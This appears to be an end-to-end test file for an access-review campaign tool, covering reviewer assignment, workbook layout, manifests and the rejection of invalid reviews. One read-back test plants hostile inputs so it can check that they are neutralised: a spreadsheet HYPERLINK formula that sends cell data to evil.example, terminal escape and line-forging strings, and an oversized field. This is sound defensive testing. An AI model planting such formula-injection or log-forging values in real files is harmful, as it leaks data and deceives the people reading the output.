import { createHash } from 'node:crypto';
import { cp, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AnswerKey } from '../../src/demo/answer-key.js';
import { inScope } from '../../src/review/campaign.js';
import { Campaign } from '../../src/review/model.js';
import type { ReviewRecord } from '../../src/review/record.js';
import { NormalizedSnapshot } from '../../src/model/index.js';
import { runCli } from '../helpers/cli.js';
import { requireTool } from '../report/helpers.js';
import { libreOfficeBinary } from '../../scripts/validate-xlsx.js';
import { fillWorkbook, saveThroughLibreOffice, type Fill, type RowView } from './fill.js';

let dir: string;
let out: string;
let campaign: Campaign;
let key: AnswerKey;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'campaign-e2e-'));
  out = join(dir, 'q4');
  const r = await runCli(['run', '--demo', '--split-by', 'reviewer', '--out', out, '--snapshot-dir', join(dir, 'snap'), '--quiet']);
  expect(r.code, r.stderr).toBe(0);
  campaign = Campaign.parse(JSON.parse(await readFile(join(out, 'review-campaign.json'), 'utf8')));
  key = AnswerKey.parse(JSON.parse(await readFile('fixtures/demo/answer-key.json', 'utf8')));
}, 180_000);
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const DAY = new Date(Date.UTC(2026, 11, 10));

/** The honest reviewer: follows the recommendation, justifies every Revoke and every Keep on a flagged account. */
function honest(r: RowView): Fill {
  if (r.recommendation === 'Revoke') return { decision: 'Revoke', reviewer: r.assigned, date: DAY, justification: `Left or orphaned (${r.findings || 'no owner'})` };
  if (r.recommendation === 'Review') return { decision: 'Keep', reviewer: r.assigned, date: DAY, justification: 'Confirmed with the team lead: still needed' };
  return { decision: 'Keep', reviewer: r.assigned, date: DAY };
}

function tasksOf(reviewer: string): (findingId: string, decideOn: string) => Fill | null {
  return (_id, decideOn) => (decideOn === 'this row' ? { decision: 'Keep', reviewer, date: DAY, justification: 'Tracked in the provisioning queue' } : null);
}

describe('the review campaign, end to end on the demo organisation', () => {
  it('gives every account in scope exactly one review row, a reviewer by the chain, never its owner', async () => {
    const snapshot = NormalizedSnapshot.parse(JSON.parse(await readFile(join(dir, 'snap', 'normalized.json'), 'utf8')));
    const accounts = Object.values(snapshot.vendors).flatMap((v) => v?.accounts ?? []);
    const expected = accounts.filter(inScope).map((a) => `${a.vendor}:${a.id}`).sort();
    const rows = campaign.rows.map((r) => `${r.vendor}:${r.accountId}`);
    expect(new Set(rows).size).toBe(rows.length);
    expect([...rows].sort()).toEqual(expected);
    // Deactivated accounts holding nothing are out of scope; everything else is in.
    expect(accounts.filter((a) => !inScope(a)).every((a) => a.status === 'deactivated')).toBe(true);
    expect(campaign.unassigned).toEqual([]);
    for (const r of campaign.rows) {
      expect(r.reviewer).not.toBeNull();
      expect(r.ownerEmails).not.toContain(r.reviewer);
      expect(r.accountEmail?.toLowerCase()).not.toBe(r.reviewer);
    }
    // Admin accounts go to the privileged-access reviewer.
    const privileged = campaign.rows.filter((r) => r.admin);
    expect(privileged.length).toBeGreaterThan(0);
    for (const r of privileged) expect(r.assignedBy).toBe('privileged');
  });

  it('assigns the planted reviewer cases as the answer key says, and says why the chain moved on', () => {
    expect(key.reviewAssignments.length).toBeGreaterThanOrEqual(5);
    const byAccount = new Map(campaign.rows.map((r) => [`${r.vendor}:${r.accountId}`, r]));
    for (const e of key.reviewAssignments) {
      const row = byAccount.get(`${e.vendor}:${e.accountId}`);
      expect(row, e.why).toBeDefined();
      expect({ reviewer: row?.reviewer, assignedBy: row?.assignedBy }, e.why).toEqual({ reviewer: e.reviewer, assignedBy: e.assignedBy });
      if (e.assignedBy !== 'manager') expect(row?.chainNotes.join(' '), e.why).toMatch(/no self-review|not active|resolves to nobody/);
    }
  });

  it('writes a manifest whose hashes, rows and due date match the reviewer workbooks', async () => {
    const manifest = JSON.parse(await readFile(join(out, 'campaign', 'campaign-manifest.json'), 'utf8')) as {
      runId: string;
      dueDate: string;
      reviewers: Array<{ reviewer: string; file: string; rows: number; findingRows: number; sha256: string; dueDate: string }>;
    };
    expect(manifest.runId).toBe(campaign.runId);
    expect(manifest.reviewers.map((r) => r.reviewer).sort()).toEqual(campaign.reviewers.map((r) => r.reviewer).sort());
    expect(manifest.reviewers.reduce((n, r) => n + r.rows, 0)).toBe(campaign.rows.length);
    expect(manifest.reviewers.reduce((n, r) => n + r.findingRows, 0)).toBe(campaign.findingTasks.length);
    for (const r of manifest.reviewers) {
      const bytes = await readFile(join(out, 'campaign', r.file));
      expect(createHash('sha256').update(bytes).digest('hex')).toBe(r.sha256);
      expect(r.dueDate).toBe(manifest.dueDate);
    }
    expect(manifest.dueDate).toBe(new Date(Date.parse(campaign.generatedAt) + 14 * 86_400_000).toISOString().slice(0, 10));
  });

  it('puts the decision cells right after the account identity: highlighted, Decision a list, Date a date', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(out, 'access-review.xlsx'));
    expect(wb.worksheets.map((w) => w.name).slice(0, 3)).toEqual(['Overview', 'Review', 'Findings']);
    const ws = wb.getWorksheet('Review')!;
    const header: string[] = [];
    ws.getRow(1).eachCell((c, i) => (header[i - 1] = String(c.value)));
    expect(header.slice(0, 9)).toEqual(['Review ID', 'Vendor', 'Account ID', 'Account Email', 'Display Name', 'Decision', 'Reviewer', 'Date', 'Justification']);
    expect(ws.rowCount - 1).toBe(campaign.rows.length);
    const cell = ws.getRow(2).getCell(6);
    expect((cell.fill as { fgColor?: { argb?: string } }).fgColor?.argb).toBe('FFFFF6CC');
    expect((ws.getRow(2).getCell(5).fill as { fgColor?: { argb?: string } } | undefined)?.fgColor?.argb).not.toBe('FFFFF6CC');
    const validations = (ws as unknown as { dataValidations: { model: Record<string, { type: string; formulae: unknown[] }> } }).dataValidations.model;
    const types = Object.entries(validations).map(([range, v]) => [range.replace(/\d+/g, ''), v.type]);
    expect(types).toEqual(expect.arrayContaining([[expect.stringMatching(/^F/), 'list'], [expect.stringMatching(/^H/), 'date']]));
    // Issue 16: the account's dates are typed date cells in ISO format, never text, wherever the row has one.
    const byAccount = new Map(campaign.rows.map((r) => [`${r.vendor}:${r.accountId}`, r]));
    const createdCol = header.indexOf('Created') + 1;
    let typed = 0;
    for (let i = 2; i <= ws.rowCount; i++) {
      const row = ws.getRow(i);
      const expected = byAccount.get(`${String(row.getCell(2).value)}:${String(row.getCell(3).value)}`)?.createdAt ?? null;
      const c = row.getCell(createdCol);
      if (expected === null) expect(c.value).toBeNull();
      else {
        expect(c.value).toBeInstanceOf(Date);
        expect(c.numFmt).toBe('yyyy-mm-dd hh:mm:ss');
        typed++;
      }
    }
    expect(typed).toBeGreaterThan(0);
  });

  const lo = requireTool(libreOfficeBinary() ?? '/usr/bin/libreoffice');
  it(`is not closed (exit 1, per-reviewer table) until every reviewer has decided, then closes at 100 % ${lo.reason}`, async () => {
    const work = join(dir, 'work');
    await cp(out, work, { recursive: true });
    const books = join(work, 'campaign');
    const manifest = JSON.parse(await readFile(join(books, 'campaign-manifest.json'), 'utf8')) as { reviewers: Array<{ reviewer: string; file: string; rows: number }> };
    const [late, ...others] = [...manifest.reviewers].sort((a, b) => b.rows - a.rows);
    if (!late) throw new Error('no reviewers');
    for (const m of others) await fillWorkbook(join(books, m.file), honest, tasksOf(m.reviewer));

    const partial = await runCli(['plan', '--decisions', books, '--out', join(dir, 'partial'), '--allow-mass-removal']);
    expect(partial.stderr).not.toMatch(/\bat .+\.js:\d+/);
    expect(partial.code).toBe(1);
    expect(partial.stderr).toMatch(/Campaign NOT closed \(exit 1\): \d+ rows? undecided/);
    // The late reviewer's line of the per-reviewer table: nothing decided yet.
    const lateLine = partial.stderr.split('\n').find((l) => l.startsWith(late.reviewer));
    expect(lateLine).toMatch(new RegExp(`^${late.reviewer.replace(/\./g, '\\.')}\\s+0/\\d+\\s+\\d+`));

    // The late reviewer works in LibreOffice: filled with exceljs, then opened and saved by LibreOffice.
    await fillWorkbook(join(books, late.file), honest, tasksOf(late.reviewer));
    if (!lo.skip) await saveThroughLibreOffice(join(books, late.file));

    const final = join(dir, 'final');
    const closed = await runCli(['plan', '--decisions', books, '--out', final, '--allow-mass-removal']);
    expect(closed.stderr).toMatch(/Campaign CLOSED/);
    expect(closed.code).toBe(0);

    const record = JSON.parse(await readFile(join(final, 'review-record.json'), 'utf8')) as ReviewRecord;
    expect(record.closed).toBe(true);
    expect(record.coverage.percent).toBe(100);
    expect(record.entries).toHaveLength(campaign.rows.length);
    for (const e of record.entries) {
      expect(e.runId).toBe(campaign.runId);
      expect(e.snapshotSha256).toBe(campaign.snapshotSha256);
      expect(e.decision).toMatch(/^(Keep|Revoke)$/);
      expect(e.reviewer).toBe(e.assignedReviewer);
      expect(e.date).toBe('2026-12-10');
    }
    // Against the answer key: every open leaver or orphan is revoked, and the final plan removes each of them.
    const plan = JSON.parse(await readFile(join(final, 'remediation-plan.json'), 'utf8')) as { status: string; actions: Array<{ accountId: string | null; vendor: string; findingIds: string[]; destructive: boolean }> };
    const entryOf = new Map(record.entries.map((e) => [`${e.vendor}:${e.accountId}`, e]));
    const gone = key.expected.filter((f) => !f.suppressed && (f.rule === 'TERMINATED_STILL_ACTIVE' || f.rule === 'ORPHANED_ACCOUNT'));
    expect(gone.length).toBeGreaterThan(0);
    for (const f of gone) {
      const e = entryOf.get(`${f.vendor}:${f.accountId}`);
      expect(e?.decision, f.why).toBe('Revoke');
      expect(plan.actions.some((a) => a.vendor === f.vendor && a.accountId === f.accountId && a.destructive && a.findingIds.includes(e?.reviewId ?? '')), f.why).toBe(true);
    }
    // Kept accounts get no action.
    const keptIds = new Set(record.entries.filter((e) => e.decision === 'Keep').map((e) => `${e.vendor}:${e.accountId}`));
    expect(plan.actions.filter((a) => a.accountId && keptIds.has(`${a.vendor}:${a.accountId}`))).toEqual([]);
    const csv = parseCsv((await readFile(join(final, 'review-record.csv'), 'utf8')).replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>;
    expect(csv).toHaveLength(record.entries.length);
    expect(Object.keys(csv[0] ?? {})).toEqual(expect.arrayContaining(['runId', 'snapshotSha256', 'vendor', 'accountId', 'accountEmail', 'reviewer', 'decision', 'date', 'justification', 'recommendation', 'findings']));
    const html = await readFile(join(final, 'campaign.html'), 'utf8');
    expect(html).toContain('Campaign closed');
    expect(html).not.toMatch(/<script|src=|href=/i);
    // The final folder is a complete --previous for next quarter: last quarter's decisions become context columns.
    expect((await readdir(final)).sort()).toEqual(expect.arrayContaining(['findings.json', 'review-record.json', 'campaign.html']));
  }, 300_000);
});

describe('campaign read-back rejects what a reviewer must not do', () => {
  it('rejects self-review, edited rows, unjustified Keep against Revoke, misplaced decisions; flags another reviewer; keeps hostile text inert', async () => {
    const work = join(dir, 'reject');
    await cp(out, work, { recursive: true });
    const full = join(work, 'access-review.xlsx');
    const rows = new Map(campaign.rows.map((r) => [r.reviewId, r]));
    const revokeRec = campaign.rows.find((r) => r.recommendation === 'Revoke' && r.findings.some((f) => f.severity === 'critical' || f.severity === 'high'))!;
    const owned = campaign.rows.find((r) => r.ownerEmail && r.recommendation === 'Keep')!;
    const edited = campaign.rows.find((r) => r.recommendation === 'Keep' && r.reviewId !== owned.reviewId)!;
    const other = campaign.rows.find((r) => r.recommendation === 'Keep' && r.reviewId !== owned.reviewId && r.reviewId !== edited.reviewId)!;
    const hostile = campaign.rows.find((r) => r.recommendation === 'Revoke' && r.reviewId !== revokeRec.reviewId)!;
    const huge = 'A'.repeat(30_000);
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const control = 'ok\u001b[31mRED\u001b[0m\r\nforged line';
    const accountFinding = campaign.rows.flatMap((r) => r.findings).find((f) => !f.suppressed)!;
    await fillWorkbook(
      full,
      (v) => {
        const r = rows.get(v.reviewId)!;
        if (r === revokeRec) return { decision: 'Keep', reviewer: r.reviewer!, date: DAY };
        if (r === owned) return { decision: 'Keep', reviewer: `Me <${r.ownerEmail!.toUpperCase()}>`, date: DAY };
        if (r === edited) return { decision: 'Keep', reviewer: r.reviewer!, date: DAY, edit: { 'Owner IdP Status': 'active', 'Account Status': 'active', Admin: r.admin ? 'no' : 'yes' } };
        if (r === other) return { decision: 'Keep', reviewer: 'someone.else@harbourline.example', date: DAY };
        if (r === hostile) return { decision: 'Revoke', reviewer: `${formula} ${r.reviewer!}`, date: DAY, justification: `${control} ${huge}` };
        return null;
      },
      (id) => (id === accountFinding.id ? { decision: 'Revoke', reviewer: 'x@harbourline.example', date: DAY, justification: 'here' } : null),
    );
    const res = await runCli(['plan', '--decisions', full, '--out', join(dir, 'reject-out'), '--allow-mass-removal']);
    expect(res.code).toBe(1);
    expect(res.stderr).not.toMatch(/\bat .+\.js:\d+/);
    expect(res.stderr).toMatch(new RegExp(`${revokeRec.reviewId}: Keep: Keep on an account with a critical or high finding`));
    expect(res.stderr).toMatch(new RegExp(`${owned.reviewId}: Keep: self-review`));
    expect(res.stderr).toMatch(new RegExp(`${edited.reviewId}: Keep: read-only cells were changed: .*Admin`));
    expect(res.stderr).toMatch(new RegExp(`${other.reviewId}: flagged: decided by someone other than the assigned reviewer`));
    expect(res.stderr).toMatch(new RegExp(`${accountFinding.id}: Revoke: the finding's account is decided on its row of the Review sheet`));
    // Control characters never reach the terminal; no line is forged.
    expect(res.stderr).not.toContain('\u001b[31m');
    expect(res.stderr.split('\n').some((l) => l.startsWith('forged line'))).toBe(false);

    const record = JSON.parse(await readFile(join(dir, 'reject-out', 'review-record.json'), 'utf8')) as ReviewRecord;
    const entry = (id: string) => record.entries.find((e) => e.reviewId === id)!;
    expect(entry(revokeRec.reviewId)).toMatchObject({ status: 'rejected', decision: null, submitted: 'Keep' });
    expect(entry(owned.reviewId).status).toBe('rejected');
    expect(entry(edited.reviewId).issues.join(' ')).toMatch(/Owner IdP Status|Account Status|Admin/);
    expect(entry(other.reviewId)).toMatchObject({ status: 'kept', decision: 'Keep' });
    expect(entry(other.reviewId).flags.join(' ')).toMatch(/not_assigned_reviewer/);
    const h = entry(hostile.reviewId);
    expect(h.decision).toBe('Revoke');
    expect(h.justification!.length).toBeLessThanOrEqual(4000);
    expect(record.closed).toBe(false);
    // The CSV neutralises the formula; the page escapes it; nothing is fetched.
    const csv = await readFile(join(dir, 'reject-out', 'review-record.csv'), 'utf8');
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const html = await readFile(join(dir, 'reject-out', 'campaign.html'), 'utf8');
    expect(html).not.toContain('<script');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1');
    expect(html).not.toMatch(/<a |href=/i);
  }, 120_000);

  it('refuses a workbook from another run with exit 3, naming the file (not a pile of rejected rows)', async () => {
    const otherRun = join(dir, 'other-run');
    const r = await runCli(['run', '--demo', '--out', otherRun, '--snapshot-dir', join(dir, 'snap2'), '--quiet']);
    expect(r.code).toBe(0);
    const res = await runCli(['plan', '--decisions', join(otherRun, 'access-review.xlsx'), '--findings', join(out, 'findings.json'), '--out', join(dir, 'mixed')]);
    expect(res.code).toBe(3);
    expect(res.stderr).toMatch(/access-review\.xlsx: workbook of run [0-9a-f-]+, but findings\.json is run/);
    expect(res.stderr).not.toMatch(/\bat .+\.js:\d+/);
  }, 180_000);

  it('shows last quarter\'s decision, reviewer and date as context with --previous, never pre-filled', async () => {
    const prev = join(dir, 'prev');
    await cp(out, join(prev, 'run'), { recursive: true });
    const someone = campaign.rows[0]!;
    await fillWorkbook(join(prev, 'run', 'access-review.xlsx'), (v) => (v.reviewId === someone.reviewId ? { decision: 'Keep', reviewer: someone.reviewer!, date: DAY } : null));
    const p = await runCli(['plan', '--decisions', join(prev, 'run', 'access-review.xlsx'), '--out', join(prev, 'final')]);
    expect(p.code).toBe(1);
    const next = join(dir, 'next');
    const r = await runCli(['run', '--demo', '--previous', join(prev, 'final'), '--out', next, '--snapshot-dir', join(dir, 'snap3'), '--quiet']);
    expect(r.code, r.stderr).toBe(0);
    const c = Campaign.parse(JSON.parse(await readFile(join(next, 'review-campaign.json'), 'utf8')));
    const row = c.rows.find((x) => x.reviewId === someone.reviewId)!;
    expect(row.previous).toEqual({ decision: 'Keep', reviewer: someone.reviewer, date: '2026-12-10' });
    expect(c.rows.filter((x) => x.previous !== null)).toHaveLength(1);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(next, 'access-review.xlsx'));
    const ws = wb.getWorksheet('Review')!;
    const header: string[] = [];
    ws.getRow(1).eachCell((cell, i) => (header[i] = String(cell.value)));
    const at = (h: string): number => header.indexOf(h);
    for (let i = 2; i <= ws.rowCount; i++) {
      const cells = ws.getRow(i);
      if (String(cells.getCell(at('Review ID')).value) !== someone.reviewId) continue;
      expect(cells.getCell(at('Previous Decision')).value).toBe('Keep');
      expect(cells.getCell(at('Previous Reviewer')).value).toBe(someone.reviewer);
      expect(cells.getCell(at('Decision')).value ?? null).toBeNull();
    }
  }, 180_000);
});
